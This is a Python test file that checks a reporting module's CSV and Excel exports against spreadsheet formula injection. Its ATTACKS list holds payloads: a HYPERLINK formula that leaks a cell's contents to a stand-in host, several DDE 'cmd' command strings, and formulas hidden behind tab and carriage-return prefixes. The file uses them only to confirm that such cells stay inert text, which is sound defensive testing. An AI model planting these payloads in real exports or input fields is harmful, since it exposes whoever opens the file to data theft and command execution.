"""The exports behind /ekspor/*.csv and *.xlsx are safe to open: names people typed that start like a
formula (a supplier called `=HYPERLINK(...)`) stay inert text, while numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from padan.reporting.adapters.exports import to_csv, to_xlsx
from padan.reporting.domain.view_models import Column, Table

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik untuk detail")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _table() -> Table:
    rows: list[dict[str, str | int | float | None]] = [
        {"name": attack, "value": -1_500_000 if i == 0 else 23_000_000_000, "share": -0.25 if i == 0 else 0.8472}
        for i, attack in enumerate(ATTACKS)
    ]
    rows.append({"name": "Tapis Siger Lampung", "value": 50_000_000, "share": None})
    return Table(
        name="penyedia",
        title="Penyedia",
        columns=[
            Column(key="name", header="=Nama penyedia"),
            Column(key="value", header="Nilai", kind="rupiah"),
            Column(key="share", header="Porsi", kind="share"),
        ],
        rows=rows,
    )


def test_csv_cells_that_start_like_a_formula_are_quoted_and_numbers_stay_numbers() -> None:
    text = to_csv(_table()).decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert header[0] == "'=Nama penyedia"
    names = [row[0] for row in rows]
    for cell in names[:-1]:
        assert cell.startswith("'"), cell
    assert names[0] == "'" + ATTACKS[0]
    assert names[4] == "'\t=1+1" and names[5] == "'\r=1+1"
    assert names[-1] == "Tapis Siger Lampung"
    # Numbers, negative ones too, are written as numbers: a spreadsheet reads them as such.
    assert [row[1] for row in rows[:2]] == ["-1500000", "23000000000"]
    assert [row[2] for row in rows[:2]] == ["-0.25", "0.8472"] and rows[-1][2] == ""


def test_xlsx_cells_are_explicit_strings_never_formulas_and_numbers_stay_numbers() -> None:
    body = to_xlsx([_table()])
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the sheet
    sheet = load_workbook(io.BytesIO(body))["penyedia"]
    assert sheet["A1"].value == "=Nama penyedia" and sheet["A1"].data_type == "s"
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    # (XML reads a carriage return back as a line feed.)
    assert [cell.value for cell in names] == [*ATTACKS[:5], "\n=1+1", "Tapis Siger Lampung"]
    assert all(cell.data_type == "s" for cell in names)
    # The quote prefix keeps them text even when someone edits the cell in Excel or LibreOffice.
    assert all(cell.quotePrefix for cell in names[:-1]) and not names[-1].quotePrefix
    values = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert values[0].value == -1_500_000 and values[0].data_type == "n"
    assert values[1].value == 23_000_000_000 and values[1].number_format == '"Rp" #,##0'
    assert sheet["C2"].value == -0.25 and sheet["C2"].data_type == "n"
